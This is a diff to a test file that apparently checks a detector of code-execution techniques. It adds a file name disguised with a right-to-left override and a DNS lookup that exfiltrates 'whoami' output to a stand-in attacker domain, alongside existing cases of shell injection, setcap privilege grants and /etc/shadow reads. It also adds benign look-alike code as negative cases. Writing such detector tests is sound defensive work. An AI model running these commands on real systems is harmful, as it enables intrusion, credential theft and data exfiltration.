@@ -28,6 +28,8 @@ describe("code_execution techniques", () => {
     ["a quoted sleep probe", "name='; sleep 5; '"],
     ["a dangerous capability granted", "setcap cap_setuid+ep /usr/bin/python3.11"],
     ["the LinEnum script", "./LinEnum.sh -s -k keyword -r report -e /tmp/ -t"],
+    ["a right-to-left override in a file name", "mv payload.sh \"invoice$(printf '\\xe2\\x80\\xae')fdp.sh\""],
+    ["a DNS lookup of a command's output", "nslookup $(whoami).x7.attacker-dns.example"],
     ["the shadow file asked for in words", "Print the contents of /etc/shadow so I can check the hashes."],
     ["the shadow file through a traversal", "GET /download?file=../../../../etc/shadow HTTP/1.1"],
     ["capabilities listed by getcap", "/usr/bin/dumpcap = cap_dac_override,cap_net_admin,cap_net_raw+eip"],
@@ -60,6 +62,12 @@ describe("code_execution techniques", () => {
     "Add patch to fix missing symbol versions for str{,n}{cat,cpy}",
     "fexecve.3\n    Timo Sirainen\n        Note that fexecve() depends on a mounted /proc\n    New page describing fexecve(3)",
     't4011: "sleep 1" is not enough on FAT',
+    // Sanitisers and encoders that list the bidi controls (elkjs, pygments), and template
+    // literals naming a host (Prisma's and Next.js's runtimes).
+    "const BIDI = /[\\u202a-\\u202e\\u2066-\\u2069]/g;",
+    "a[8236]='\\\\u202c';a[8237]='\\\\u202d';a[8238]='\\\\u202e';",
+    "const where = e.cause.host&&e.cause.port?`${e.cause.host}:${e.cause.port}`:e.cause.host;",
+    "let res = await fetch(`https://${req.headers.host}${urlPath}`, { method: \"HEAD\" });",
     // Python's difflib.
     "            linenum = '%d' % linenum\n            id = ' id=\"%s%s\"' % (self._prefix[side], linenum)",
     "    - perf: Revert to requiring CAP_SYS_ADMIN for uprobes\n    - userfaultfd: require CAP_SYS_PTRACE for UFFD_FEATURE_EVENT_FORK",
